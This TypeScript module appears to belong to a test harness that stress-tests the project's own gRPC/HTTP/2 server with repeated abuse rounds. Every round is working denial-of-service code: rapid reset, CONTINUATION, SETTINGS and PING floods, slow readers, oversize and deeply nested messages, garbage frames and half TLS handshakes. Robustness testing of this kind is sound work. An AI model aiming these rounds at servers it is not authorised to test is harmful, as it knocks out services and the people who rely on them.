// One round of each kind of abuse. Its process repeats rounds until it is stopped; what a round leaves open is closed after the next ones.
import { setTimeout as sleep } from 'node:timers/promises';
import type { Socket } from 'node:net';
import { callHeaders, flags, frame, frameTypes, grpcMessage, headerBlock } from '../../support/http2-frames.ts';
import type { Chance } from '../random.ts';
import { dial, dialHttp2, dialPlain, preface, send } from './attacked.ts';
import type { Attacked } from './attacked.ts';

type Round = (attacked: Attacked, chance: Chance) => Promise<readonly Socket[]>;

const noClient = Uint8Array.of(0, 0, 0, 8); // CANCEL
const unknownField = (bytes: number): Buffer => {
  const head = Buffer.from([0xfa, 0x3f, 0x80 | (bytes & 0x7f), 0x80 | ((bytes >> 7) & 0x7f), (bytes >> 14) & 0x7f]);
  return Buffer.concat([head, Buffer.alloc(bytes)]);
};
const times = <T>(count: number, make: (index: number) => T): T[] => Array.from({ length: count }, (_, i) => make(i));
const stream = (index: number): number => 2 * index + 1;
const headersOf = ({ headers }: Attacked, path: string) => callHeaders(path, headers);
const openCall = (attacked: Attacked, index: number, path: string) =>
  frame(frameTypes.headers, flags.endHeaders, stream(index), headersOf(attacked, path));
const wholeCall = (attacked: Attacked, index: number, path: string, message: Uint8Array) => [
  openCall(attacked, index, path),
  frame(frameTypes.data, flags.endStream, stream(index), grpcMessage(message)),
];
const noise = (chance: Chance, bytes: number): Buffer => Buffer.from(times(bytes, () => chance.below(256)));
/** A message may be longer than a frame. */
const dataFrames = (index: number, bytes: Uint8Array): Buffer[] =>
  times(Math.ceil(bytes.length / 16_384), (part) =>
    frame(frameTypes.data, 0, stream(index), bytes.subarray(part * 16_384, (part + 1) * 16_384)),
  );

async function on(attacked: Attacked, ...frames: readonly Uint8Array[]): Promise<readonly Socket[]> {
  const socket = await dialHttp2(attacked);
  await send(socket, ...frames);
  return [socket];
}

const rounds = {
  /** Ten processes, a thousand each: as many as HTTP/2 lets one connection have. */
  streams: async (attacked) => {
    const socket = await dialHttp2(attacked);
    const window = Buffer.alloc(4);
    window.writeUInt32BE(0x7fff_0000 - 65_535);
    await send(socket, frame(frameTypes.windowUpdate, 0, 0, window));
    for (let index = 0; index < 1_000; index += 1)
      await send(socket, ...wholeCall(attacked, index, attacked.streamPath, new Uint8Array()));
    await sleep(10_000);
    return [socket];
  },
  'connect-and-close': async (attacked) => {
    const sockets = await Promise.all(times(64, () => dialPlain(attacked)));
    for (const socket of sockets) socket.destroy();
    return [];
  },
  silence: (attacked) => Promise.all(times(32, () => dialPlain(attacked))),
  'preface-and-silence': (attacked) => Promise.all(times(32, () => dialHttp2(attacked))),
  'slow-readers': (attacked) =>
    Promise.all(
      times(8, async () => {
        const socket = await dial(attacked);
        socket.pause();
        const calls = times(200, (index) => wholeCall(attacked, index, attacked.streamPath, new Uint8Array()));
        await send(socket, preface, ...calls.flat());
        return socket;
      }),
    ),
  'unfinished-requests': (attacked) =>
    Promise.all(
      times(8, async () => {
        const socket = await dialHttp2(attacked);
        const half = grpcMessage(Buffer.alloc(8_000), { length: 200_000 });
        await send(
          socket,
          ...times(500, (index) => [
            openCall(attacked, index, attacked.callPath),
            frame(frameTypes.data, 0, stream(index), half.subarray(0, index < 7 ? half.length : 6)),
          ]).flat(),
        );
        return socket;
      }),
    ),
  'oversize-frames': async (attacked, chance) => {
    const length = chance.pick([16_385, 1 << 20, (1 << 24) - 1]);
    const head = frame(chance.pick([0, 1, 4, 9]), flags.endHeaders, 1);
    head.writeUIntBE(length, 0, 3);
    return on(attacked, head, Buffer.alloc(Math.min(length, 1 << 20)));
  },
  'oversize-messages': async (attacked, chance) => {
    const length = chance.pick([256 * 1024 + 1, 4 * 1024 * 1024 + 1, 0xffff_ffff]);
    const bytes = grpcMessage(Buffer.alloc(65_000), { length });
    return on(attacked, openCall(attacked, 0, attacked.callPath), ...dataFrames(0, bytes));
  },
  garbage: async (attacked, chance) => {
    const socket = await dial(attacked);
    await send(socket, noise(chance, 4_000));
    return [socket];
  },
  'garbage-frames': async (attacked, chance) =>
    on(
      attacked,
      ...times(200, () =>
        frame(
          Math.floor(chance.below(14)),
          Math.floor(chance.below(256)),
          Math.floor(chance.below(12)),
          noise(chance, Math.floor(chance.below(60))),
        ),
      ),
    ),
  'rapid-reset': async (attacked) =>
    on(
      attacked,
      ...times(2_000, (index) => [
        openCall(attacked, index, attacked.callPath),
        frame(frameTypes.resetStream, 0, stream(index), noClient),
      ]).flat(),
    ),
  /** Whole calls, each of which the target has to look at, dropped as soon as they are made. */
  'live-resets': async (attacked) => {
    const socket = await dialHttp2(attacked);
    for (let part = 0; part < 20; part += 1)
      await send(
        socket,
        ...times(100, (index) => [
          ...wholeCall(attacked, part * 100 + index, attacked.streamPath, new Uint8Array()),
          frame(frameTypes.resetStream, 0, stream(part * 100 + index), noClient),
        ]).flat(),
      );
    return [socket];
  },
  /** The same, and the connection is dropped with them. */
  'live-drops': async (attacked) => {
    const sockets = await Promise.all(
      times(8, async () => {
        const socket = await dialHttp2(attacked);
        await send(
          socket,
          ...times(50, (index) => wholeCall(attacked, index, attacked.streamPath, new Uint8Array())).flat(),
        );
        return socket;
      }),
    );
    await sleep(5);
    for (const socket of sockets) socket.destroy();
    return [];
  },
  'continuation-flood': async (attacked) =>
    on(
      attacked,
      frame(frameTypes.headers, 0, 1, headersOf(attacked, attacked.callPath)),
      ...times(1_000, (index) => frame(frameTypes.continuation, 0, 1, headerBlock([[`x-${index}`, 'a'.repeat(400)]]))),
    ),
  'settings-flood': async (attacked) => {
    const socket = await dial(attacked);
    socket.pause(); // its acknowledgements pile up
    await send(socket, preface, ...times(20_000, () => frame(frameTypes.settings, 0, 0)));
    return [socket];
  },
  'ping-flood': async (attacked) => {
    const socket = await dial(attacked);
    socket.pause();
    await send(socket, preface, ...times(20_000, () => frame(frameTypes.ping, 0, 0, new Uint8Array(8))));
    return [socket];
  },
  'window-flood': async (attacked) =>
    on(attacked, ...times(20_000, () => frame(frameTypes.windowUpdate, 0, 0, Uint8Array.of(0, 0, 0, 1)))),
  'empty-data-flood': async (attacked) =>
    on(attacked, openCall(attacked, 0, attacked.callPath), ...times(20_000, () => frame(frameTypes.data, 0, 1))),
  'one-byte-data': async (attacked) => {
    const message = grpcMessage(unknownField(16_000));
    return on(
      attacked,
      openCall(attacked, 0, attacked.callPath),
      ...[...message].map((byte) => frame(frameTypes.data, 0, 1, Uint8Array.of(byte))),
    );
  },
  'deep-protobuf': async (attacked, chance) => {
    // Groups in groups, or messages in messages, without end.
    const deep = chance.pick([Buffer.alloc(15_000, 0x0b), Buffer.alloc(15_000, 0x1b), nestedMessages(3_000)]);
    return on(attacked, ...times(50, (index) => wholeCall(attacked, index, attacked.callPath, deep)).flat());
  },
  'unknown-methods': async (attacked, chance) =>
    on(
      attacked,
      ...times(500, (index) =>
        wholeCall(attacked, index, `${attacked.callPath}/${chance.below(1)}`, new Uint8Array()),
      ).flat(),
    ),
  'huge-headers': async (attacked) =>
    on(
      attacked,
      ...times(50, (index) =>
        frame(
          frameTypes.headers,
          flags.endHeaders | flags.endStream,
          stream(index),
          callHeaders(attacked.callPath, [...attacked.headers, ['x-long', 'a'.repeat(15_000)]]),
        ),
      ),
    ),
  'wrong-security-header': async (attacked, chance) => {
    const name = 'workload.spiffe.io';
    const headers = chance.pick<[string, string][]>([
      [],
      [[name, 'false']],
      [[name, 'TRUE']],
      [
        [name, 'true'],
        [name, 'true'],
      ],
    ]);
    return on(
      attacked,
      ...times(200, (index) =>
        wholeCall({ ...attacked, headers }, index, attacked.streamPath, new Uint8Array()),
      ).flat(),
    );
  },
  handshakes: async (attacked) => {
    const sockets = await Promise.all(times(32, () => dial(attacked)));
    for (const socket of sockets) socket.destroy();
    return [];
  },
  'half-handshakes': (attacked, chance) =>
    Promise.all(
      times(64, async () => {
        const socket = await dialPlain(attacked);
        // The head of a handshake record, and less than it announces.
        await send(socket, Uint8Array.of(0x16, 3, 1, 2, 0), noise(chance, Math.floor(chance.below(100))));
        return socket;
      }),
    ),
} as const satisfies Readonly<Record<string, Round>>;

export type AbuseKind = keyof typeof rounds;

export function abuseOnce(kind: AbuseKind, attacked: Attacked, chance: Chance): Promise<readonly Socket[]> {
  return rounds[kind](attacked, chance);
}

/** Field 1 of a message, which holds field 1 of a message, which holds … */
function nestedMessages(depth: number): Buffer {
  let inner = Buffer.alloc(0);
  for (let level = 0; level < depth && inner.length < 15_000; level += 1) {
    const length = inner.length < 128 ? [inner.length] : [(inner.length & 0x7f) | 0x80, inner.length >> 7];
    inner = Buffer.concat([Uint8Array.of(0x0a, ...length), inner]);
  }
  return inner;
}
